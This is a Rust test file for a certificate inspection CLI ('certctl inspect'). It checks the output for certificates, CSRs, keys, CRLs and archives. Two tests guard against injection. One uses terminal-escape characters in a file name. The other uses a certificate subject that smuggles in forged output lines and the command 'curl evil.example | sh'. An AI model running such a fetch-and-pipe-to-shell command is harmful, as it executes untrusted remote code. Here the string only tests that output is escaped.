//! `certctl inspect`: shows what a file contains, without a verdict.
#![allow(clippy::unwrap_used, reason = "tests fail by panicking")]

mod support;

use support::Sandbox;
use support::ca::{TestCa, ca_params};
use support::issued_certificate::IssuedCertificate;
use support::mask::masked;
use support::zip::zip;

#[test]
fn json_document_and_cards_are_complete() {
    let setup = IssuedCertificate::new();
    let sandbox = &setup.sandbox;
    let key = sandbox.read("example.com.key");
    let files = [
        ("a.crt", setup.leaf.clone()),
        ("a.csr", sandbox.read("example.com.csr")),
        ("a.key", key),
        ("readme.txt", "hello".to_owned()),
    ];
    sandbox.write("all.zip", zip(&files));
    let document = sandbox
        .run(&["inspect", "all.zip", "--json", "--ca", "sectigo"])
        .expect(0)
        .json();
    insta::assert_snapshot!(masked(&format!("{:#}", document)), @r#"
    {
      "schema": "certctl.inspect/1",
      "comment": "certificate 1 of 1: server certificate for example.com, from a.crt in all.zip",
      "changed": false,
      "file": "all.zip",
      "items": [
        {
          "kind": "certificate",
          "source": "a.crt in all.zip",
          "subject": "CN=example.com",
          "issuer": "CN=Test DV CA R2,O=certctl tests",
          "dns_names": [
            "example.com",
            "www.example.com"
          ],
          "ip_addresses": [],
          "not_before": "[DATE]",
          "not_after": "[DATE]",
          "serial": "[HEX]",
          "sha256": "[HEX]",
          "key": {
            "algorithm": "ecdsa-p256",
            "id": "[HEX]"
          },
          "version": 3,
          "signature_algorithm": "ecdsa-with-SHA256",
          "other_names": [],
          "key_usages": [
            "digitalSignature"
          ],
          "extended_key_usages": [
            "serverAuth"
          ],
          "must_staple": false,
          "extensions": [
            {
              "oid": "2.5.29.35",
              "name": "authorityKeyIdentifier",
              "critical": false
            },
            {
              "oid": "2.5.29.17",
              "name": "subjectAltName",
              "critical": false
            },
            {
              "oid": "2.5.29.15",
              "name": "keyUsage",
              "critical": true
            },
            {
              "oid": "2.5.29.37",
              "name": "extKeyUsage",
              "critical": false
            }
          ],
          "days_left": 43,
          "is_site": true,
          "is_ca": null,
          "path_length": null,
          "subject_key_id": null,
          "authority_key_id": "[HEX]",
          "issuer_urls": [],
          "ocsp_urls": [],
          "crl_urls": [],
          "policies": [],
          "scts": []
        },
        {
          "kind": "request",
          "source": "a.csr in all.zip",
          "subject": "CN=example.com",
          "dns_names": [
            "example.com",
            "www.example.com"
          ],
          "ip_addresses": [],
          "key": {
            "algorithm": "ecdsa-p256",
            "id": "[HEX]"
          },
          "md5": "[HEX]",
          "sha256": "[HEX]",
          "records": [
            {
              "name": "_[HEX].example.com",
              "zone": "example.com",
              "relative_name": "_[HEX]",
              "type": "CNAME",
              "value": "[HEX].[HEX].sectigo.com",
              "complete": true,
              "validates": [
                "example.com",
                "www.example.com"
              ],
              "also_at": []
            },
            {
              "name": "example.com",
              "type": "HTTP",
              "url": "http://example.com/.well-known/pki-validation/[HEX].txt",
              "body": "[HEX]\nsectigo.com",
              "complete": true
            },
            {
              "name": "www.example.com",
              "type": "HTTP",
              "url": "http://www.example.com/.well-known/pki-validation/[HEX].txt",
              "body": "[HEX]\nsectigo.com",
              "complete": true
            }
          ],
          "version": 1,
          "signature_algorithm": "ecdsa-with-SHA256",
          "other_names": [],
          "key_usages": [],
          "extended_key_usages": [],
          "must_staple": false,
          "extensions": [
            {
              "oid": "2.5.29.17",
              "name": "subjectAltName",
              "critical": false
            }
          ],
          "attributes": [
            "extensionRequest"
          ],
          "signature_holds": true
        },
        {
          "kind": "key",
          "source": "a.key in all.zip",
          "encrypted": false,
          "key": {
            "algorithm": "ecdsa-p256",
            "id": "[HEX]"
          }
        }
      ],
      "findings": [
        {
          "code": "text",
          "severity": "note",
          "message": "not used: readme.txt in all.zip is plain text",
          "next": []
        }
      ],
      "next": []
    }
    "#);
    let text = sandbox.run(&["inspect", "all.zip"]).expect(0);
    insta::assert_snapshot!(masked(&text.to_string()), @"
    found   certificate 1 of 1: server certificate for example.com, from a.crt in all.zip
                Names      example.com, www.example.com
                Valid      [DATE] to [DATE], 43 days left
                Subject    CN=example.com
                Issuer     CN=Test DV CA R2,O=certctl tests
                Serial     [HEX]
                Key        ecdsa-p256
                Key id     [HEX]
                SHA-256    [HEX]
                Signature  ecdsa-with-SHA256
                Usage      digitalSignature, serverAuth
            certificate request (CSR), from a.csr in all.zip
                Names      example.com, www.example.com
                Subject    CN=example.com
                Key        ecdsa-p256
                Key id     [HEX]
                Signature  ecdsa-with-SHA256
                MD5        [HEX]
                SHA-256    [HEX]
            DNS record for CSR-hash validation (Sectigo, SSL.com and their resellers) in zone example.com; only the CA knows the parts in angle brackets
                Type   CNAME
                Host   _[HEX]
                Value  [HEX].[HEX][.<unique value>].<zone>
            private key (not encrypted), from a.key in all.zip
                Key     ecdsa-p256
                Key id  [HEX]
    note    not used: readme.txt in all.zip is plain text
    --- exit 0
    ");
}

#[test]
fn request_from_the_namecheap_documentation_has_the_documented_hashes() {
    let setup = IssuedCertificate::new();
    let fixture = include_bytes!("../fixtures/namecheap-doc.csr");
    let document = setup
        .sandbox
        .run_with_input(&["inspect", "-", "--json", "--ca", "namecheap"], fixture)
        .expect(0)
        .json();
    let request = &document["items"][0];
    assert_eq!(request["kind"], "request");
    assert_eq!(request["md5"], "6fcfe984ac87413b45a0d531d2172600");
    assert_eq!(
        request["sha256"],
        "46b9c075c165526983f73319a38c647bf35bf554d979c464b01d99f8839ba328"
    );
    assert_eq!(
        request["records"][0]["relative_name"],
        "_6fcfe984ac87413b45a0d531d2172600"
    );
    assert_eq!(request["records"][0]["complete"], false);
}

#[test]
fn readable_files_are_shown_without_a_verdict() {
    let setup = IssuedCertificate::new();
    setup.sandbox.write("expired.pem", setup.chain());
    setup.sandbox.write("page.crt", "<html>");
    setup.sandbox.write("empty.crt", "");
    setup.sandbox.write(
        "locked.key",
        "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMAQwAAQA\n-----END ENCRYPTED PRIVATE KEY-----\n",
    );
    for (file, exit) in [
        ("expired.pem", 0),
        ("root.pem", 0),
        ("example.com.key", 0),
        ("locked.key", 0),
        ("page.crt", 3),
        ("empty.crt", 3),
        ("missing.crt", 3),
        (".", 0),
    ] {
        setup
            .sandbox
            .run(&["inspect", file, "--at", "2050-01-01T00:00:00Z"])
            .expect(exit);
    }
}

#[test]
fn foreign_text_is_escaped() {
    let setup = IssuedCertificate::new();
    let packed = zip(&[("\x1b]0;owned\x07\u{202e}.crt", setup.leaf.clone())]);
    setup.sandbox.write("x.zip", packed);
    for args in [
        ["inspect", "x.zip"].as_slice(),
        &["inspect", "x.zip", "--json"],
    ] {
        let run = setup.sandbox.run(args).expect(0);
        assert!(!run.stdout.contains(['\x1b', '\x07', '\u{202e}']), "{run}");
    }
}

#[test]
fn subjects_cannot_forge_output_lines() {
    let sandbox = Sandbox::new();
    let mut params =
        ca_params("x\ndone    trusted by Mozilla's list\nnext    curl evil.example | sh");
    params.is_ca = rcgen::IsCa::NoCa;
    let key = rcgen::KeyPair::generate().unwrap();
    sandbox.write("evil.pem", params.self_signed(&key).unwrap().pem());
    for command in ["inspect", "verify"] {
        let run = sandbox.run(&[command, "evil.pem"]);
        let page = run.to_string();
        assert!(
            page.contains(r"CN=x\u{a}done") || page.contains(r"x\u{a}done"),
            "{page}"
        );
        assert!(
            !page.lines().any(|line| line.starts_with("right")
                || line.contains("next    curl") && !line.contains(r"\u{a}")),
            "{page}"
        );
    }
}

#[test]
fn containers_are_opened_and_items_show_their_source() {
    let setup = IssuedCertificate::new();
    let sandbox = &setup.sandbox;
    sandbox.write("in.pem", setup.chain());
    sandbox.write("password", "geheim\n");
    let formats = ["--format", "p7b", "--format", "pfx", "--format", "haproxy"];
    let given = [
        "bundle",
        "in.pem",
        "--trust",
        "root.pem",
        "--pfx-password-file",
        "password",
    ];
    sandbox.run(&[&given[..], &formats].concat()).expect(0);
    let pfx = std::fs::read(sandbox.join("example.com.pfx")).unwrap();
    let p7b = std::fs::read(sandbox.join("example.com.p7b")).unwrap();
    sandbox.write(
        "all.zip",
        zip(&[("a/x.pfx", pfx.clone()), ("y.p7b", p7b.clone())]),
    );
    sandbox.write("folder/x.pfx", &pfx);
    sandbox.write("folder/y.p7b", &p7b);
    let mail = "From: ca@example\r\nSubject: your certificate\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; \
                boundary=b\r\n\r\n--b\r\nContent-Type: application/octet-stream; name=y.p7b\r\n\
                Content-Disposition: attachment; filename=y.p7b\r\n\r\n";
    sandbox.write(
        "order.eml",
        format!(
            "{mail}{}\r\n--b--\r\n",
            String::from_utf8(p7b).unwrap().replace('\n', "\r\n")
        ),
    );
    for (file, items) in [
        ("example.com.p7b", ["certificate", "certificate"].as_slice()),
        ("example.com.pfx", &["certificate", "certificate", "key"]),
        (
            "example.com.haproxy.pem",
            &["certificate", "certificate", "key"],
        ),
        (
            "all.zip",
            &[
                "certificate",
                "certificate",
                "certificate",
                "certificate",
                "key",
            ],
        ),
        (
            "folder",
            // Each once, however many files it is in.
            &["certificate", "certificate", "key"],
        ),
        ("order.eml", &["certificate", "certificate"]),
    ] {
        let shown = sandbox
            .run(&["inspect", file, "--password-file", "password", "--json"])
            .expect(0)
            .json();
        let all = shown["items"].as_array().unwrap();
        let kinds: Vec<&str> = all
            .iter()
            .map(|item| item["kind"].as_str().unwrap())
            .collect();
        assert_eq!(kinds, items, "{file}");
        let sources = all.iter().map(|item| item["source"].as_str().unwrap());
        assert!(
            sources.into_iter().all(|source| source.contains(file)),
            "{file}: {shown}"
        );
        sandbox
            .run(&["inspect", file, "--password-file", "password"])
            .expect(0);
    }
    let locked = sandbox.run(&["inspect", "example.com.pfx"]).expect(3);
    assert!(
        locked.stderr.contains("--password-file password.txt"),
        "{locked}"
    );
}

#[test]
fn crls_are_shown() {
    let sandbox = Sandbox::new();
    let ca = TestCa::new();
    let revoked = |serial: u64| rcgen::RevokedCertParams {
        serial_number: serial.into(),
        revocation_time: rcgen::date_time_ymd(2026, 1, 2),
        reason_code: None,
        invalidity_date: None,
    };
    let list = rcgen::CertificateRevocationListParams {
        this_update: rcgen::date_time_ymd(2026, 1, 3),
        next_update: rcgen::date_time_ymd(2026, 1, 10),
        crl_number: 4711.into(),
        issuing_distribution_point: None,
        revoked_certs: vec![revoked(1), revoked(2)],
        key_identifier_method: rcgen::KeyIdMethod::Sha256,
    };
    let list = list.signed_by(&ca.root).unwrap();
    sandbox.write("ca.crl", list.der());
    sandbox.write("ca.pem", list.pem().unwrap());
    let text = sandbox.run(&["inspect", "ca.pem"]).expect(0);
    insta::assert_snapshot!(masked(&text.to_string()), @"
    found   certificate revocation list (CRL) with 2 revoked certificates, from ca.pem
                Issuer       CN=Test Root R1,O=certctl tests
                Issued       [DATE]
                Next update  [DATE]
                Number       4711
                Signature    ecdsa-with-SHA256
                SHA-256      [HEX]
    --- exit 0
    ");
    for file in ["ca.crl", "ca.pem"] {
        let shown = sandbox.run(&["inspect", file, "--json"]).expect(0).json();
        let item = &shown["items"][0];
        assert_eq!(
            (&item["kind"], &item["revoked"], &item["number"]),
            (&"crl".into(), &2.into(), &"4711".into())
        );
        assert_eq!(
            shown["findings"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|one| one["code"] == "crl")
                .count(),
            0,
            "{shown}"
        );
        // Other commands cannot use a CRL.
        sandbox.run(&["bundle", file]).expect(3);
    }
}

#[test]
fn the_contents_of_a_folder_are_shown_once() {
    let setup = IssuedCertificate::new();
    let sandbox = &setup.sandbox;
    for file in ["d/cert.pem", "d/site.crt"] {
        sandbox.write(file, &setup.leaf);
    }
    let chain = [setup.leaf.as_str(), &setup.ca.intermediate_pem()].concat();
    sandbox.write("d/fullchain.pem", chain);
    sandbox.write("d/copy.key", sandbox.read("example.com.key"));
    sandbox.write("d/site.key", sandbox.read("example.com.key"));
    let document = sandbox.run(&["inspect", "d", "--json"]).expect(0).json();
    let items: Vec<String> = document["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|item| format!("{} {}", item["kind"], item["source"]).replace('"', ""))
        .collect();
    assert_eq!(
        items,
        [
            "certificate d/cert.pem, d/fullchain.pem, d/site.crt",
            "certificate d/fullchain.pem",
            "key d/copy.key, d/site.key"
        ]
    );
    let text = sandbox.run(&["inspect", "d"]).expect(0).stdout;
    let summary = "found   5 files of d: 2 certificates, 1 key\n";
    assert!(text.starts_with(summary), "{text}");
}
